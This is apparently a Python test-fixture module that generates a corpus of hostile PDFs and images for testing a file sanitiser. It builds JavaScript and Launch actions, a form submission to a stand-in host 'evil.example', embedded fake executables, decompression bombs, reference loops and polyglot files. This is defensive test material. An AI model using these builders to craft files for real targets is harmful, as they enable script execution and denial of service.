"""A corpus of hostile files, made by the tests themselves with pikepdf and Pillow (#14 part 1).

Each builder returns bytes. The PDFs carry a visible mark (black text drawn by a content
stream, and for the annotation vectors a visible appearance), so a test can check that what
the sender meant to show survives while everything active is gone.
"""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream


def _base(pages: int = 1, size=(612, 792)) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 48 Tf 72 600 Td (VISIBLE) Tj ET "
                                            b"0 0 0 rg 72 100 200 100 re f")
    return pdf


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _appearance(pdf: pikepdf.Pdf, width: float = 200, height: float = 60) -> Stream:
    """A visible appearance: a black box (a signature, a filled field's value)."""
    stream = pdf.make_stream(f"0 0 0 rg 0 0 {width} {height} re f".encode())
    stream.Type, stream.Subtype = Name.XObject, Name.Form
    stream.BBox = [0, 0, width, height]
    return stream


def _with_annotation(annotation: Dictionary, *, visible: bool = True) -> bytes:
    pdf = _base()
    annotation.Rect = [300, 300, 500, 360]
    if visible:
        annotation.AP = Dictionary(N=_appearance(pdf))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return _save(pdf)


def link_running_javascript() -> bytes:
    return _with_annotation(Dictionary(
        Type=Name.Annot, Subtype=Name.Link,
        A=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('pwned')"))))


def link_launching_a_program() -> bytes:
    return _with_annotation(Dictionary(
        Type=Name.Annot, Subtype=Name.Link,
        A=Dictionary(S=Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\calc.exe"))))


def link_submitting_a_form() -> bytes:
    return _with_annotation(Dictionary(
        Type=Name.Annot, Subtype=Name.Link,
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL,
                                                     F=pikepdf.String("https://evil.example/")))))


def _file_spec(pdf: pikepdf.Pdf, name: str = "payload.exe") -> Dictionary:
    embedded = pdf.make_stream(b"MZ\x90\x00 hidden executable")
    embedded.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=pikepdf.String(name),
                                        UF=pikepdf.String(name), EF=Dictionary(F=embedded)))


def file_attachment_annotation() -> bytes:
    pdf = _base()
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                            Rect=[300, 300, 320, 320], FS=_file_spec(pdf))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return _save(pdf)


def form_field_with_keystroke_javascript() -> bytes:
    """A filled text field (visible value) whose keystroke action runs JavaScript."""
    pdf = _base()
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("name"),
        V=pikepdf.String("Avery"), Rect=[300, 300, 500, 360],
        AP=Dictionary(N=_appearance(pdf)),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))))
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=False)
    return _save(pdf)


def embedded_file_through_af() -> bytes:
    pdf = _base()
    pdf.Root.AF = Array([_file_spec(pdf)])
    pdf.pages[0].obj.AF = Array([_file_spec(pdf, "page.exe")])
    return _save(pdf)


def embedded_file_through_names() -> bytes:
    pdf = _base()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(
        Names=Array([pikepdf.String("payload.exe"), _file_spec(pdf)])))
    return _save(pdf)


def document_javascript() -> bytes:
    pdf = _base()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(2)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([pikepdf.String("run"), script])))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.pages[0].obj.AA = Dictionary(O=script)
    return _save(pdf)


def xfa_form() -> bytes:
    pdf = _base()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>"
                          b"app.alert(3)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def flate_bomb() -> bytes:
    """A content stream of 256 KB that inflates to 256 MB of spaces."""
    pdf = _base()
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    body = b"".join(compressor.compress(chunk) for _ in range(256)) + compressor.flush()
    stream = Stream(pdf, body)
    stream.Filter = Name.FlateDecode
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(stream)])
    return _save(pdf)


def image_bomb_in_pdf() -> bytes:
    """An image XObject that claims 100,000 x 100,000 pixels (30 GB decoded)."""
    pdf = _base()
    compressor = zlib.compressobj(9)
    row = b"\x00" * 300_000
    body = b"".join(compressor.compress(row) for _ in range(2000)) + compressor.flush()
    image = Stream(pdf, body)
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width = image.Height = 100_000
    image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Name.FlateDecode
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Bomb=image)
    page.Contents = pdf.make_stream(b"q 500 0 0 500 50 50 cm /Bomb Do Q")
    return _save(pdf)


def huge_png() -> bytes:
    """A PNG whose header claims 100,000 x 100,000 pixels (the data is a few KB)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (len(data).to_bytes(4, "big") + kind + data
                + zlib.crc32(kind + data).to_bytes(4, "big"))
    header = (100_000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    compressor = zlib.compressobj(9)
    data = compressor.compress(b"\x00" * 300_001 * 10) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data)
            + chunk(b"IEND", b""))


def ten_thousand_pages() -> bytes:
    pdf = pikepdf.new()
    for _ in range(10_000):
        pdf.add_blank_page(page_size=(612, 792))
    return _save(pdf)


def huge_mediabox() -> bytes:
    pdf = _base()
    pdf.pages[0].obj.MediaBox = [0, 0, 5_000_000, 5_000_000]
    return _save(pdf)


def reference_loop() -> bytes:
    """A page tree whose node lists itself among its kids, and a Form XObject drawing itself."""
    pdf = _base()
    form = Stream(pdf, b"/Me Do")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, [0, 0, 10, 10]
    form = pdf.make_indirect(form)
    form.Resources = Dictionary(XObject=Dictionary(Me=form))
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Me=form)
    page.Contents = pdf.make_stream(b"/Me Do BT /F1 48 Tf 72 600 Td (VISIBLE) Tj ET")
    data = _save(pdf)
    # Make the root Pages node a kid of itself, by hand, after qpdf has written the file.
    return data.replace(b"/Type /Pages", b"/Type /Pages /Parent 2 0 R", 1)


def deep_nesting() -> bytes:
    """A content stream operand 100,000 arrays deep, and a dictionary nested as deep."""
    data = _save(_base())
    deep = b"[" * 100_000 + b"]" * 100_000
    trailer = data.rfind(b"trailer")
    if trailer < 0:
        return data + b"\n% " + deep
    return data[:trailer] + b"9999 0 obj " + deep + b" endobj\n" + data[trailer:]


def broken_xref() -> bytes:
    data = _save(_base())
    start = data.rfind(b"startxref")
    return data[:start] + b"startxref\n999999999\n%%EOF\n"


def pdf_zip_polyglot() -> bytes:
    """A PDF with a ZIP archive after it (and an HTML page before it)."""
    zipped = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("evil.html", "<script>alert(4)</script>")
    return _save(_base()) + zipped.getvalue()


def pdf_html_polyglot() -> bytes:
    return b"<html><script>alert(5)</script><!-- " + _save(_base()) + b" --></html>"


def svg_posing_as_jpeg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(6)"><rect/></svg>'


def tiff_image() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, format="TIFF")
    return out.getvalue()


def heic_image() -> bytes:
    """The start of an HEIC file (an ISO-BMFF 'ftyp' box with brand heic)."""
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64


#: Every PDF vector whose active content must be gone from the stored copy.
ACTIVE_PDF_VECTORS = {
    "link running JavaScript": link_running_javascript,
    "link launching a program": link_launching_a_program,
    "link submitting a form": link_submitting_a_form,
    "file-attachment annotation": file_attachment_annotation,
    "form field with keystroke JavaScript": form_field_with_keystroke_javascript,
    "embedded file through the catalogue's /AF": embedded_file_through_af,
    "embedded file through /Names/EmbeddedFiles": embedded_file_through_names,
    "document JavaScript and open action": document_javascript,
    "XFA form": xfa_form,
}
